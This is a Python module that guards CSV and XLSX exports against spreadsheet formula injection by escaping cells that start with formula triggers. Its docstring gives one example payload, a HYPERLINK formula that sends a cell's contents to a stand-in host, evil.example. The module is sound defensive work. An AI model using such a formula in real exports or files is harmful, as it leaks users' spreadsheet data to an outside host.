"""Spreadsheet exports that cannot run formulas (OWASP's CSV-injection rule).

A text cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which
spreadsheets skip before reading a formula) is a formula to Excel, LibreOffice and Google
Sheets when a CSV is opened: a location named ``=HYPERLINK("http://evil.example/?x="&A1,"x")``
would become a live link. CSV: such a cell is written with a leading apostrophe (``'=...``),
which spreadsheets show as text. XLSX: the cell is written as a string cell (``t="s"``/inline
string, never ``<f>``), its text unchanged. Numbers are numbers and are never touched.
"""

from __future__ import annotations

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def risky(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def csv_cell(value):
    """The value, or ``'`` + value for a text that a spreadsheet would read as a formula."""
    return "'" + value if risky(value) else value


def csv_row(row):
    return [("'" + v if isinstance(v, str) and v.startswith(TRIGGERS) else v) for v in row]


def xlsx_row(ws, row):
    """The row for ``ws.append`` (write-only sheet): risky texts as explicit string cells."""
    if not any(risky(v) for v in row):
        return row
    from openpyxl.cell import WriteOnlyCell

    out = []
    for v in row:
        if risky(v):
            c = WriteOnlyCell(ws, value=None)
            c._value = v  # (the value setter would take '=...' for a formula)
            c.data_type = "s"
            out.append(c)
        else:
            out.append(v)
    return out
